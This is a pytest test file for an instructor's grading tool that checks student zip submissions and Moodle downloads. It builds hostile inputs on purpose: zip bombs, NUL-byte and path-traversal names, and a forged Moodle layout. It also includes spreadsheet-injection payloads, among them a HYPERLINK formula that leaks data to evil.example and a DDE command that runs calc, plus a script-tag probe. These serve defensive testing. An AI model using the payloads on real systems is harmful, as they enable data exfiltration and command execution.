"""instructor/grade.py without grading: reading any zip, Moodle's layout, labels, scores, resuming,
statuses, the CSV, groups and datasets. Hostile zips are built here, none needs a trained model."""

import csv
import io
import shutil
import struct
import zipfile
from pathlib import Path

import pytest

import lab
from instructor import grade, kit


def _zip(files, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _submission(label, content, student="", student_id=""):
    return grade.Submission(label, student, student_id, content)


def _error_of(tmp_path, content):
    path = tmp_path / "odd.zip"
    path.write_bytes(content)
    [submission] = grade.find_submissions(path)
    assert submission.label == "odd"
    with pytest.raises(grade.RefusedSubmission) as refused:
        grade.read_source(submission.source)
    return str(refused.value)


def _rows(out):
    with (out / "results.csv").open(newline="") as file:
        return list(csv.DictReader(file))


STUDENT_CODE = {"student/metrics.py": "x = 1\n", "names.txt": "Ada Lovelace\n", "words.txt": "up,down\n"}


def test_an_encrypted_zip_is_a_row_not_a_crash(tmp_path):
    content = bytearray(_zip({"student/metrics.py": "x = 1\n"}))
    content[6] |= 1  # the local header's "encrypted" flag
    content[content.find(b"PK\x01\x02") + 8] |= 1  # and the central directory's
    row = grade.grade_one(_submission("odd", bytes(content)), tmp_path / "out", [], 60)
    assert "encrypted" in row["error"] and row["status"] == "refused-submission", row


def test_an_unknown_compression_method_is_a_row_not_a_crash(tmp_path):
    content = bytearray(_zip({"student/metrics.py": "x = 1\n"}))
    central = content.find(b"PK\x01\x02")
    content[central + 10 : central + 12] = struct.pack("<H", 99)
    content[8:10] = struct.pack("<H", 99)
    row = grade.grade_one(_submission("odd", bytes(content)), tmp_path / "out", [], 60)
    assert row["error"].startswith("NotImplementedError"), row


def test_corrupt_deflate_data_is_a_row_not_a_crash(tmp_path):
    content = bytearray(_zip({"student/metrics.py": "x = 1\n" * 200}, zipfile.ZIP_DEFLATED))
    data_start = 30 + len("student/metrics.py")
    content[data_start : data_start + 20] = b"\xff" * 20
    row = grade.grade_one(_submission("odd", bytes(content)), tmp_path / "out", [], 60)
    assert row["error"].startswith(("error:", "BadZipFile")), row  # zlib.error or a CRC mismatch


def test_a_file_that_is_not_a_zip_says_so(tmp_path):
    assert "not a readable zip" in _error_of(tmp_path, b"just text")


# --- Bundles only when the TA says so ----------------------------------------------------------


def _forged_moodle_layout():
    """A student's own upload laid out like Moodle's download, naming another student."""
    return _zip({"Eve Forger_103_assignsubmission_file_/submission.zip": _zip(STUDENT_CODE),
                 "Ada Lovelace_101_assignsubmission_file_/submission.zip": _zip({"student/metrics.py": "x = 2\n"})})


def test_a_zip_given_alone_is_one_submission_even_in_moodles_layout(tmp_path):
    path = tmp_path / "eve.zip"
    path.write_bytes(_forged_moodle_layout())
    assert grade.find_submissions(path) == [grade.Submission("eve", "", "", path)]


def test_a_forged_moodle_layout_uploaded_alone_is_one_row_with_no_forged_name(tmp_path):
    (tmp_path / "eve.zip").write_bytes(_forged_moodle_layout())
    out = tmp_path / "results"
    grade.main([str(tmp_path / "eve.zip"), "--out", str(out)])
    [row] = _rows(out)
    assert (row["submission"], row["student"], row["student_id"], row["status"]) == (
        "eve", "", "", "refused-submission")
    assert "no student/*.py" in row["error"] and "--moodle" in row["error"]


def test_a_zip_holding_a_zip_beside_other_files_is_one_submission(tmp_path):
    path = tmp_path / "group7.zip"
    path.write_bytes(_zip({"names.txt": "Ada\n", "Ada Lovelace_101_assignsubmission_file_/submission.zip": b"x"}))
    assert [s.label for s in grade.find_submissions(path)] == ["group7"]


def test_a_moodle_bundle_gives_a_row_per_student_with_caps_per_student(tmp_path):
    students = {f"Student {i}_{1000 + i}_assignsubmission_file_/submission.zip": _zip({"names.txt": f"S{i}\n"})
                for i in range(201)}
    path = tmp_path / "moodle.zip"
    path.write_bytes(_zip(students))
    found = grade.find_bundle(path)
    assert len(found) == 201 and all(isinstance(s.source, grade.BundleMember) for s in found)
    assert found[0][1:3] == ("Student 0", "1000")
    assert zipfile.is_zipfile(io.BytesIO(grade.read_source(found[0].source)))


def test_a_single_upload_gets_one_submissions_caps_not_a_class(tmp_path):
    files = {f"Student {i}_{1000 + i}_assignsubmission_file_/submission.zip": b"x" for i in range(grade.MAX_FILES + 1)}
    assert "over the cap of 200" in _error_of(tmp_path, _zip(files))


def test_a_moodle_folder_without_a_zip_says_what_was_found(tmp_path):
    path = tmp_path / "moodle.zip"
    path.write_bytes(_zip({
        "Ada Lovelace_101_assignsubmission_file_/submission.zip": _zip({"names.txt": "Ada\n"}),
        "Alan Turing_102_assignsubmission_onlinetext_/onlinetext.html": "<p>my answers</p>",
    }))
    rows = {s.label: s.source for s in grade.find_bundle(path)}
    assert "found: 'onlinetext.html'" in str(rows["Alan Turing_102_assignsubmission_onlinetext_"])


def test_a_zip_given_as_a_moodle_download_without_its_layout_is_a_grader_error(tmp_path):
    path = tmp_path / "single.zip"
    path.write_bytes(_zip(STUDENT_CODE))
    with pytest.raises(grade.GraderError, match="not a Moodle download"):
        grade.find_bundle(path)


def _claiming_sizes(files, size):
    """A small zip whose directory says every member unpacks to `size` bytes (as a zip bomb's would)."""
    content = bytearray(_zip(files))
    central = content.find(b"PK\x01\x02")
    while central != -1:
        content[central + 24 : central + 28] = struct.pack("<I", size)  # uncompressed size
        central = content.find(b"PK\x01\x02", central + 4)
    return bytes(content)


def test_members_over_the_cap_are_refused_from_the_headers_without_reading_them(tmp_path, monkeypatch):
    bomb = _claiming_sizes({"student/metrics.py": b"x" * 1000, "models/a.tflite": b"y" * 1000}, 2**31)
    read = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: read.append(args) or pytest.fail("read"))
    message = _error_of(tmp_path, bomb)
    assert "over the cap of 50 MiB per file" in message and not read


def test_a_zip_bomb_inside_a_moodle_download_is_that_students_row(tmp_path):
    bomb = _claiming_sizes({"student/metrics.py": b"x" * 1000, "models/a.tflite": b"y" * 1000}, 2**31)
    path = tmp_path / "moodle.zip"
    path.write_bytes(_zip({"Eve Forger_103_assignsubmission_file_/submission.zip": bomb,
                           "Ada Lovelace_101_assignsubmission_file_/submission.zip": _zip(STUDENT_CODE)}))
    rows = {s.label: s for s in grade.find_bundle(path)}
    row = grade.grade_one(rows["Eve Forger_103_assignsubmission_file_"], tmp_path / "out", [], 60)
    assert row["status"] == "refused-submission" and "per file" in row["error"], row
    assert len(rows) == 2


def _with_nul_member(files, name):
    """A zip whose member `name` is renamed to start with a NUL byte, in both of its headers."""
    content = _zip(files)
    return content.replace(name.encode(), b"\0" + name.encode()[1:])


def test_a_member_named_by_a_nul_byte_is_one_refused_row_and_results_csv_is_written(tmp_path):
    (tmp_path / "nul.zip").write_bytes(_with_nul_member({**STUDENT_CODE, "evil": "x"}, "evil"))
    (tmp_path / "other.zip").write_bytes(b"not a zip")
    out = tmp_path / "results"
    assert grade.main([str(tmp_path / "nul.zip"), str(tmp_path / "other.zip"), "--out", str(out)]) == 0
    rows = {row["submission"]: row for row in _rows(out)}
    assert rows["nul"]["status"] == "refused-submission" and "refused member path" in rows["nul"]["error"]
    assert set(rows) == {"nul", "other"}


def test_a_moodle_download_with_a_nul_member_is_one_row_and_results_csv_is_written(tmp_path):
    bundle = _with_nul_member({"Ada Lovelace_101_assignsubmission_file_/submission.zip": _zip(STUDENT_CODE),
                               "evil": "x"}, "evil")
    (tmp_path / "moodle.zip").write_bytes(bundle)
    out = tmp_path / "results"
    assert grade.main(["--moodle", str(tmp_path / "moodle.zip"), "--out", str(out)]) == 1  # the TA must look
    [row] = _rows(out)
    assert row["submission"] == "moodle" and row["status"] == "grader-error" and "refused member path" in row["error"]


def test_a_300_character_folder_name_is_one_row_with_a_results_folder(tmp_path):
    long_name = "A" * 300 + "_101_assignsubmission_file_"
    (tmp_path / "moodle.zip").write_bytes(_zip({f"{long_name}/submission.zip": b"not a zip",
                                                "Ada Lovelace_102_assignsubmission_file_/submission.zip": b"no"}))
    out = tmp_path / "results"
    grade.main(["--moodle", str(tmp_path / "moodle.zip"), "--out", str(out)])
    rows = _rows(out)
    assert len(rows) == 2 and all(row["status"] == "refused-submission" for row in rows)
    long_row = next(row for row in rows if row["submission"].startswith("AAA"))
    assert len(long_row["submission"]) <= grade.MAX_LABEL_CHARS and len(long_row["results_folder"]) < 120
    assert (out / long_row["results_folder"] / "results.json").is_file()


def test_every_failure_of_one_submission_is_its_own_row(tmp_path, monkeypatch):
    for name in ("a", "b"):
        (tmp_path / f"{name}.zip").write_bytes(b"not a zip")
    real_grade_one = grade.grade_one

    def failing(submission, *rest):
        if submission.label == "a":
            raise OSError("File name too long")
        return real_grade_one(submission, *rest)

    monkeypatch.setattr(grade, "grade_one", failing)
    out = tmp_path / "results"
    assert grade.main([str(tmp_path / "a.zip"), str(tmp_path / "b.zip"), "--out", str(out)]) == 1
    rows = {row["submission"]: row for row in _rows(out)}
    assert rows["a"]["status"] == "grader-error" and "File name too long" in rows["a"]["error"]
    assert rows["b"]["status"] == "refused-submission"


# --- Labels and result folders -------------------------------------------------------------------


def test_two_submissions_with_one_name_get_unique_labels():
    labels = [s.label for s in grade.unique_labels([_submission("submission", b""), _submission("submission", b""),
                                                    _submission("submission-2", b"")])]
    assert labels == ["submission", "submission-2", "submission-2-2"]


def test_labels_alike_after_sanitising_get_their_own_result_folders(tmp_path):
    (tmp_path / "a b.zip").write_bytes(b"not a zip")
    (tmp_path / "a_b.zip").write_bytes(b"not a zip either")
    out = tmp_path / "results"
    grade.main([str(tmp_path / "a b.zip"), str(tmp_path / "a_b.zip"), "--out", str(out)])
    folders = {row["submission"]: row["results_folder"] for row in _rows(out)}
    assert set(folders) == {"a b", "a_b"} and len(set(folders.values())) == 2
    assert all((out / folder / "results.json").is_file() for folder in folders.values())


def test_no_label_writes_outside_the_results_folder(tmp_path):
    for label in ("..", ".", "../../etc", "a/../../b", "x" * 300, "\0"):
        folder = grade.result_folder(tmp_path, label).resolve()
        assert folder.parent == tmp_path.resolve() and folder.name not in (".", "..") and len(folder.name) < 120, label


# --- Grader errors are not grades -----------------------------------------------------------------


def _zip_file(tmp_path, name, files):
    path = tmp_path / name
    path.write_bytes(_zip(files))
    return path


def test_a_grader_error_has_no_score_is_retried_and_fails_the_run(tmp_path, monkeypatch):
    def time_out(*args, **kwargs):
        raise grade.GraderError("tests did not finish within 1 s")

    monkeypatch.setattr(grade, "run_tests", time_out)
    path = _zip_file(tmp_path, "ada.zip", STUDENT_CODE)
    out = tmp_path / "results"
    assert grade.main([str(path), "--out", str(out)]) == 1
    [row] = _rows(out)
    assert (row["status"], row["score"], row["max_score"]) == ("grader-error", "", "")

    graded = []
    monkeypatch.setattr(grade, "run_tests", lambda *args, **kwargs: graded.append(1) or [])
    assert grade.main([str(path), "--out", str(out)]) == 0
    [row] = _rows(out)
    assert graded and row["status"] == "graded" and row["score"] != ""


def test_a_missing_zip_or_dataset_stops_the_run_before_it_starts(tmp_path, capsys):
    for arguments in ([str(tmp_path / "missing.zip")], ["--moodle", str(tmp_path / "missing.zip")],
                      [str(_zip_file(tmp_path, "a.zip", STUDENT_CODE)), "--data-dir", str(tmp_path / "nowhere")]):
        with pytest.raises(SystemExit) as stopped:
            grade.main([*arguments, "--out", str(tmp_path / "results")])
        assert stopped.value.code == 2 and not (tmp_path / "results").exists()
    assert "nowhere is not a Speech Commands dataset" in capsys.readouterr().err


def test_rows_with_an_error_are_kept_unless_retry_errors(tmp_path, monkeypatch):
    (tmp_path / "a.zip").write_bytes(b"not a zip")
    out = tmp_path / "results"
    grade.main([str(tmp_path / "a.zip"), "--out", str(out)])
    graded = []
    real_grade_one = grade.grade_one
    monkeypatch.setattr(grade, "grade_one", lambda s, *rest: graded.append(s.label) or real_grade_one(s, *rest))
    grade.main([str(tmp_path / "a.zip"), "--out", str(out)])
    assert graded == []
    grade.main([str(tmp_path / "a.zip"), "--out", str(out), "--retry-errors"])
    assert graded == ["a"]


# --- The CSV and the answers -----------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|x",
            "@SUM(1,2)", "\t=1", "\r=1", "'=already quoted"]


def test_cells_that_a_spreadsheet_would_run_are_escaped_and_read_back_exactly(tmp_path):
    rows = [{"submission": f"s{i}", "names": text, "submit_problems": text} for i, text in enumerate(FORMULAS)]
    grade.write_rows(tmp_path / "results.csv", rows)
    with (tmp_path / "results.csv").open(newline="") as file:
        cells = [row["names"] for row in csv.DictReader(file)]
    assert all(cell.startswith("'") for cell in cells), cells
    assert [row["names"] for row in grade.read_rows(tmp_path / "results.csv").values()] == FORMULAS


def test_student_text_reaches_results_csv_escaped(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "run_tests", lambda *args, **kwargs: [])
    path = _zip_file(tmp_path, "eve.zip", {**STUDENT_CODE, "names.txt": '=HYPERLINK("http://evil.example","x")\n',
                                           "manifest.json": '{"problems": ["=cmd|\' /C calc\'!A0"]}'})
    out = tmp_path / "results"
    grade.main([str(path), "--out", str(out)])
    [row] = _rows(out)
    assert row["names"].startswith("'=HYPERLINK") and row["submit_problems"].startswith("'=cmd")


def test_answers_are_given_to_the_grader_as_text_never_as_a_page(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "run_tests", lambda *args, **kwargs: [])
    answers = "# Answers\n<script>alert('x')</script>\n"
    row = grade.grade_one(_submission("eve", _zip({**STUDENT_CODE, "student/answers.md": answers})),
                          tmp_path / "out", [], 60)
    folder = tmp_path / "out" / row["results_folder"]
    assert (folder / "answers.txt").read_text() == answers
    assert sorted(p.name for p in folder.iterdir()) == ["answers.txt", "results.json"]


def test_the_tas_points_for_the_answers_are_kept_when_a_row_is_graded_again(tmp_path):
    (tmp_path / "a.zip").write_bytes(b"not a zip")
    out = tmp_path / "results"
    grade.main([str(tmp_path / "a.zip"), "--out", str(out)])
    rows = _rows(out)
    assert "answers_score" in rows[0] and rows[0]["answers_score"] == ""
    rows[0]["answers_score"] = "7"
    grade.write_rows(out / "results.csv", rows)
    grade.main([str(tmp_path / "a.zip"), "--out", str(out), "--regrade"])
    assert _rows(out)[0]["answers_score"] == "7"


def test_manual_parts_of_the_rubric_are_not_in_the_automatic_score():
    tests = [{"name": "a", "group": "metrics", "status": "passed", "output": ""}]
    results = grade.score(tests, challenge_passed=False, rubric={"metrics": 10, "answers": 10, "challenge": 5})
    assert (results["score"], results["max_score"]) == (10, 15)
    assert not any(t["name"].startswith("answers") for t in results["tests"])


# --- Groups -----------------------------------------------------------------------------------------


GROUPS = {"group01": "up,down", "group02": "left,right"}


def _groups_csv(tmp_path):
    path = tmp_path / "groups.csv"
    path.write_text("\ufeffGroup,First name,Last name,ID number,Email address\n"
                    "group01,Ada,Lovelace,s101,ada@example.org\n"
                    "group02,Alan,Turing,s102,alan@example.org\n", encoding="utf-8")
    return path


def test_groups_csv_maps_students_by_name_id_number_and_email(tmp_path):
    mapping = grade.read_groups_csv(_groups_csv(tmp_path))
    assert mapping["ada lovelace"] == mapping["s101"] == mapping["ada@example.org"] == "group01"


def test_a_groups_file_without_a_group_column_says_what_it_needs(tmp_path):
    (tmp_path / "groups.csv").write_text("Name,Email\nAda,ada@example.org\n")
    with pytest.raises(ValueError, match="Group column"):
        grade.read_groups_csv(tmp_path / "groups.csv")


def test_keywords_of_another_group_than_the_students_are_flagged(tmp_path):
    mapping = grade.read_groups_csv(_groups_csv(tmp_path))
    assert grade.group_check(["Ada  LOVELACE"], "up,down", mapping, GROUPS) == ("group01", "")
    group, problem = grade.group_check(["Ada Lovelace"], "left,right", mapping, GROUPS)
    assert group == "group01" and "not group group01's (up,down)" in problem
    assert "different groups" in grade.group_check(["Ada Lovelace", "Alan Turing"], "up,down", mapping, GROUPS)[1]
    assert "no student" in grade.group_check(["Eve"], "up,down", mapping, GROUPS)[1]


def test_untouched_keywords_are_no_groups_and_are_flagged(tmp_path):
    import challenge

    shutil.copy2(kit.ROOT / "words.txt", tmp_path / "words.txt")
    assert lab.notebook_keywords(tmp_path) == "yes,no"  # the notebook still runs offline on its example
    (tmp_path / "words.txt").write_text("yes,no\n")
    with pytest.raises(ValueError, match="no group's keyword set"):
        lab.read_words(tmp_path, challenge.load_challenge()["groups"])


def test_a_moodle_students_group_mismatch_is_flagged_in_the_row(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "run_tests", lambda *args, **kwargs: [])
    bundle = tmp_path / "moodle.zip"
    bundle.write_bytes(_zip({"Alan Turing_102_assignsubmission_file_/submission.zip": _zip(STUDENT_CODE)}))
    out = tmp_path / "results"
    grade.main(["--moodle", str(bundle), "--groups", str(_groups_csv(tmp_path)), "--out", str(out)])
    [row] = _rows(out)
    assert row["group"] == "group02" and "up,down are not group group02's (left,right)" in row["group_problem"]


# --- One batch, a mixed class ----------------------------------------------------------------------


SYNTHETIC = {"kind": "synthetic", "settings": {"speakers": 40}}
REAL = {"kind": "speech_commands", "words": 35}


def test_each_model_is_measured_on_the_dataset_of_its_provenance():
    datasets = [(Path("/data/small"), SYNTHETIC), (Path("/data/speech"), REAL)]
    choose = grade.dataset_for_submission
    assert choose({"dataset": {"kind": "speech_commands"}}, datasets, {"speakers": 300}) == (
        Path("/data/speech"), "speech_commands")
    assert choose({"dataset": {"kind": "synthetic", "settings": {"speakers": 40}}}, datasets, {"speakers": 300}) \
        == (Path("/data/small"), "synthetic")
    assert choose({"dataset": {"kind": "synthetic", "settings": {"speakers": 300}}}, datasets, {"speakers": 300}) \
        == (None, "synthetic")  # the kit's default set, made when first needed


def test_a_real_model_without_the_real_dataset_here_is_a_grader_error_not_a_grade():
    with pytest.raises(grade.GraderError, match="--data-dir"):
        grade.dataset_for_submission({"dataset": {"kind": "speech_commands"}}, [], {"speakers": 300})
    assert grade.dataset_for_submission({"dataset": {"kind": "speech_commands"}}, [], {"speakers": 300},
                                        "/data/sc") == (Path("/data/sc"), "speech_commands")


def test_the_dataset_goes_into_the_jailed_measurement(tmp_path, monkeypatch):
    import json

    kit_dir = tmp_path / "submission" / "kit"
    (kit_dir / "models").mkdir(parents=True)
    (kit_dir / "models" / "kws_model_student_updown_quantized.tflite").write_bytes(b"model")
    (kit_dir / "models" / "kws_model_student_updown_quantized.json").write_text(
        json.dumps({"provenance": {"dataset": {"kind": "speech_commands"}}}))
    real = tmp_path / "speech"
    seen = {}
    monkeypatch.setattr(grade, "run_confined", lambda command, cwd, timeout, env=None, memory_bytes=None:
                        seen.update(command=command, env=env) or (2, "error: measured"))
    with pytest.raises(grade.SubmissionError, match="could not be measured"):
        grade.measure(tmp_path / "submission", kit_dir, "up,down", [(real, REAL)], 60)
    assert seen["command"][seen["command"].index("--data-dir") + 1] == str(real.resolve())
    assert seen["env"]["SPEECH_COMMANDS_DIR"] == str(real.resolve())


# --- Grading tests that run -------------------------------------------------------------------------


def test_every_grading_test_counts_in_a_rubric_group():
    import challenge

    rubric = challenge.load_challenge()["rubric"]
    files = sorted((kit.ROOT / "instructor" / "grading_tests").glob("test_*.py"))
    public = {p.name for p in (kit.ROOT / "tests" / "student").glob("test_*.py")}
    assert files
    for path in files:
        assert grade.test_group(f"tests.student.grading.{path.stem}") in rubric, path.name
        assert path.name not in public, f"{path.name} has a public test's name: pytest would confuse the two"


def test_the_grading_tests_are_copied_where_pytest_collects_them(tmp_path):
    import subprocess
    import sys

    copy = kit.copy_kit(tmp_path / "kit")
    kit.add_grading_tests(copy)
    collected = subprocess.run([sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider",
                                "tests/student"], cwd=copy, capture_output=True, text=True, timeout=600).stdout
    expected = sorted((kit.ROOT / "instructor" / "grading_tests").glob("test_*.py"))
    assert all(f"tests/student/grading/{path.name}::" in collected for path in expected), collected[-2000:]


def test_skipped_and_errored_tests_score_nothing(tmp_path):
    report = tmp_path / "report.xml"
    report.write_text(
        '<testsuites><testsuite name="pytest" tests="4">'
        '<testcase name="test_ok"/>'
        '<testcase name="test_failed"><failure message="wrong"/></testcase>'
        '<testcase name="test_error"><error message="boom"/></testcase>'
        '<testcase name="test_skipped"><skipped message="skipped by the student"/></testcase>'
        '</testsuite></testsuites>')
    results = {t["name"]: (t["status"], t["score"]) for t in grade.read_test_results(report)}
    assert results == {"test_ok": ("passed", 1), "test_failed": ("failed", 0), "test_error": ("failed", 0),
                       "test_skipped": ("skipped", 0)}


def test_rows_are_written_as_they_finish_and_a_rerun_keeps_them(tmp_path, monkeypatch):
    for name in ("a", "b"):
        (tmp_path / f"{name}.zip").write_bytes(b"not a zip")
    out = tmp_path / "results"
    grade.main([str(tmp_path / "a.zip"), "--out", str(out)])
    assert [row["submission"] for row in csv.DictReader((out / "results.csv").open())] == ["a"]

    graded = []
    real_grade_one = grade.grade_one
    monkeypatch.setattr(grade, "grade_one", lambda s, *rest: graded.append(s.label) or real_grade_one(s, *rest))
    grade.main([str(tmp_path / "a.zip"), str(tmp_path / "b.zip"), "--out", str(out)])
    assert graded == ["b"]
    assert [row["submission"] for row in csv.DictReader((out / "results.csv").open())] == ["a", "b"]


def test_relative_paths_mean_the_folder_the_grader_was_started_in(tmp_path, monkeypatch):
    (tmp_path / "one.zip").write_bytes(b"not a zip")
    monkeypatch.chdir(tmp_path)
    grade.main(["one.zip", "--out", "results"])
    assert (tmp_path / "results" / "results.csv").is_file()


def test_a_process_a_step_leaves_running_is_killed_when_the_step_ends(tmp_path):
    import sys
    import time

    marker = tmp_path / "written-later"
    later = tmp_path / "later.py"
    later.write_text(f"import pathlib, time\ntime.sleep(2)\npathlib.Path({str(marker)!r}).write_text('x')\n")
    starter = tmp_path / "starter.py"
    starter.write_text(f"import subprocess, sys\nsubprocess.Popen([sys.executable, {str(later)!r}])\n")
    code, output = grade.run_confined([sys.executable, str(starter)], tmp_path, timeout=60)
    assert code == 0, output
    time.sleep(3)
    assert not marker.exists()


def test_a_flood_of_output_is_capped_and_kept_out_of_the_graders_memory(tmp_path, monkeypatch):
    import sys

    monkeypatch.setattr(grade, "OUTPUT_CAP_BYTES", 2**20)
    code, output = grade.run_confined([sys.executable, "-c", "import sys\nwhile True: sys.stdout.write('x' * 65536)"],
                                      tmp_path, timeout=60)
    assert code != 0 and len(output) <= 4000


def test_a_step_over_its_time_limit_is_stopped(tmp_path):
    import sys

    import pytest

    with pytest.raises(grade.GraderError, match="did not finish within 1 s"):
        grade.run_confined([sys.executable, "-c", "import time; time.sleep(30)"], tmp_path, timeout=1)


def test_the_rubric_shares_each_groups_points_among_its_tests_and_skips_score_nothing():
    tests = [{"name": "a", "group": "metrics", "status": "passed", "output": ""},
             {"name": "b", "group": "metrics", "status": "skipped", "output": "skip"},
             {"name": "c", "group": "estimate", "status": "passed", "output": ""}]
    results = grade.score(tests, challenge_passed=True, rubric={"metrics": 10, "estimate": 20, "challenge": 5})
    points = {t["name"]: (t["score"], t["max_score"], t["status"]) for t in results["tests"]}
    assert points == {"metrics: a": (5, 5, "passed"), "metrics: b": (0, 5, "failed"),
                      "estimate: c": (20, 20, "passed"), "final challenge": (5, 5, "passed")}
    assert (results["score"], results["max_score"]) == (30, 35)


def test_tests_are_grouped_by_their_student_file():
    assert grade.test_group("tests.student.test_student_metrics") == "metrics"
    assert grade.test_group("tests.student.grading.test_estimate_exact") == "estimate"
    assert grade.is_grading_test("tests.student.grading.test_estimate_exact")
    assert not grade.is_grading_test("tests.student.test_student_estimate")


def test_a_hanging_student_function_fails_its_own_tests_and_the_others_still_run(tmp_path):
    import os
    import subprocess
    import sys

    from instructor import kit

    copy = kit.copy_kit(tmp_path / "kit")
    kit.overlay_solution(copy)
    (copy / "student" / "metrics.py").write_text(
        "def get_student_metrics(confusion_matrix, idx):\n    while True:\n        pass\n")
    report = copy / "report.xml"
    # Three of the metrics tests (each waits out the limit), and the callbacks' tests that build
    # settings only (the one that trains could itself run over the short limit on a loaded machine).
    chosen = "(perfect_class or recall_reads or plain_floats or callbacks) and not stops_when_the_loss_stalls"
    subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                    "tests/student/test_student_metrics.py", "tests/student/test_student_callbacks.py",
                    "-k", chosen, f"--junitxml={report}"], cwd=copy, capture_output=True,
                   timeout=600, env={**os.environ, "MICROKWS_TEST_SECONDS": "3"})
    results = grade.read_test_results(report)
    metrics = [t for t in results if t["group"] == "metrics"]
    callbacks = [t for t in results if t["group"] == "callbacks"]
    assert len(metrics) == 3 and all(t["status"] == "failed" and "ran over 3 s" in t["output"] for t in metrics)
    assert callbacks and all(t["status"] == "passed" for t in callbacks)


def test_totals_are_the_rubrics_whole_points_when_shares_do_not_divide_evenly():
    tests = [{"name": str(i), "group": "metrics", "status": "passed", "output": ""} for i in range(3)]
    results = grade.score(tests, challenge_passed=False, rubric={"metrics": 10, "challenge": 5})
    assert (results["score"], results["max_score"]) == (10, 15)


def test_a_group_whose_tests_never_ran_keeps_its_points_in_the_maximum_and_scores_nothing():
    tests = [{"name": "a", "group": "estimate", "status": "passed", "output": ""}]
    results = grade.score(tests, challenge_passed=False, rubric={"metrics": 10, "estimate": 20, "challenge": 5})
    assert (results["score"], results["max_score"]) == (20, 35)
    assert {"name": "metrics: no test of this group ran", "max_score": 10, "score": 0, "status": "failed",
            "output": ""} in results["tests"]


def test_a_test_file_that_cannot_be_collected_counts_in_its_own_group(tmp_path):
    report = tmp_path / "report.xml"
    report.write_text('<testsuites><testsuite name="pytest" tests="1"><testcase classname="" '
                      'name="tests.student.test_student_metrics"><error message="collection failure"/></testcase>'
                      '</testsuite></testsuites>')
    assert [(t["group"], t["status"]) for t in grade.read_test_results(report)] == [("metrics", "failed")]


def test_a_grader_error_on_gradescope_says_it_is_not_a_grade_and_fails(tmp_path, monkeypatch):
    import json

    def time_out(*args, **kwargs):
        raise grade.GraderError("tests did not finish within 1 s")

    monkeypatch.setattr(grade, "run_tests", time_out)
    upload = tmp_path / "submission"
    for name, content in STUDENT_CODE.items():
        (upload / name).parent.mkdir(parents=True, exist_ok=True)
        (upload / name).write_text(content)
    assert grade.main(["--gradescope", str(upload), str(tmp_path / "results.json")]) == 1
    results = json.loads((tmp_path / "results.json").read_text())
    assert "not a grade" in results["output"] and "did not finish" not in results["output"]


def test_the_default_synthetic_set_is_made_by_one_job_at_a_time(monkeypatch):
    import threading
    import time

    import synthetic

    running, most = [], []

    def make():
        running.append(1)
        most.append(len(running))
        time.sleep(0.05)
        running.pop()
        return Path("/made")

    monkeypatch.setattr(synthetic, "default_dataset", make)
    threads = [threading.Thread(target=grade.default_synthetic_dataset) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(most) == 4 and max(most) == 1


def test_a_moodle_download_that_is_not_a_zip_is_one_grader_error_row(tmp_path):
    (tmp_path / "moodle.zip").write_bytes(b"half a download")
    (tmp_path / "a.zip").write_bytes(b"not a zip")
    out = tmp_path / "results"
    assert grade.main(["--moodle", str(tmp_path / "moodle.zip"), str(tmp_path / "a.zip"), "--out", str(out)]) == 1
    rows = {row["submission"]: row for row in _rows(out)}
    assert rows["moodle"]["status"] == "grader-error" and "not a readable Moodle download" in rows["moodle"]["error"]
    assert rows["a"]["status"] == "refused-submission"
